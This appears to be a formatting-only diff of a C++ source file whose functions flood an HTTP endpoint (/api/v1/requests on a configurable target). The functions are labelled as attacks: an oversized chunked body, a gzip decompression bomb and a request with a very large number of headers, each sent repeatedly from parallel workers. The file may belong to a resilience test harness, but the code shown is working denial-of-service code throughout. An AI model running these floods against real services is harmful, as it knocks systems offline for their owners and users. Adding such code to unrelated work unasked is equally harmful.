@@ -52,43 +52,51 @@ const std::string& GzipBombPayload() {
 
 }  // namespace
 
-void PrepareGzipBomb() { GzipBombPayload(); }
+void PrepareGzipBomb() {
+  GzipBombPayload();
+}
 
 void ChunkedBody(const AttackContext& ctx, Tally& tally) {
   const std::string head =
       BuildRequest("POST", "/api/v1/requests", ctx.target,
-           {{"Content-Type", "application/json"}, {"Transfer-Encoding", "chunked"}});
+                   {{"Content-Type", "application/json"}, {"Transfer-Encoding", "chunked"}});
   char size_line[32];
   std::snprintf(size_line, sizeof size_line, "%zx\r\n", kChunkBytes);
   const std::string opening = R"({"type":"complaint","title":")";
-  const std::string chunk = size_line + opening + std::string(kChunkBytes - opening.size(), 'a') + "\r\n";
+  const std::string chunk =
+      size_line + opening + std::string(kChunkBytes - opening.size(), 'a') + "\r\n";
   const std::string filler = size_line + std::string(kChunkBytes, 'a') + "\r\n";
   RunWorkers(ctx.connections, [&](int) {
     while (!ctx.stop.load()) {
       std::size_t sent = 0;
-      SendOversized(ctx, head, [&]() -> std::string_view {
-        if (sent >= kChunkedBodyBytes + kChunkBytes) return {};
-        sent += kChunkBytes;
-        if (sent == kChunkBytes) return chunk;
-        return sent <= kChunkedBodyBytes ? std::string_view(filler) : "0\r\n\r\n";
-      }, tally);
+      SendOversized(
+          ctx, head,
+          [&]() -> std::string_view {
+            if (sent >= kChunkedBodyBytes + kChunkBytes) return {};
+            sent += kChunkBytes;
+            if (sent == kChunkBytes) return chunk;
+            return sent <= kChunkedBodyBytes ? std::string_view(filler) : "0\r\n\r\n";
+          },
+          tally);
     }
   });
 }
 
 void GzipBomb(const AttackContext& ctx, Tally& tally) {
   const std::string& payload = GzipBombPayload();
-  const std::string head =
-      BuildRequest("POST", "/api/v1/requests", ctx.target,
-           {{"Content-Type", "application/json"},
-            {"Content-Encoding", "gzip"},
-            {"Content-Length", std::to_string(payload.size())}});
+  const std::string head = BuildRequest("POST", "/api/v1/requests", ctx.target,
+                                        {{"Content-Type", "application/json"},
+                                         {"Content-Encoding", "gzip"},
+                                         {"Content-Length", std::to_string(payload.size())}});
   RunWorkers(ctx.connections, [&](int) {
     while (!ctx.stop.load()) {
       bool done = false;
-      SendOversized(ctx, head, [&]() -> std::string_view {
-        return std::exchange(done, true) ? std::string_view() : payload;
-      }, tally);
+      SendOversized(
+          ctx, head,
+          [&]() -> std::string_view {
+            return std::exchange(done, true) ? std::string_view() : payload;
+          },
+          tally);
     }
   });
 }
@@ -119,9 +127,12 @@ void ManyHeaders(const AttackContext& ctx, Tally& tally) {
   RunWorkers(ctx.connections, [&](int) {
     while (!ctx.stop.load()) {
       bool done = false;
-      SendOversized(ctx, opening, [&]() -> std::string_view {
-        return std::exchange(done, true) ? std::string_view() : lines;
-      }, tally);
+      SendOversized(
+          ctx, opening,
+          [&]() -> std::string_view {
+            return std::exchange(done, true) ? std::string_view() : lines;
+          },
+          tally);
     }
   });
 }
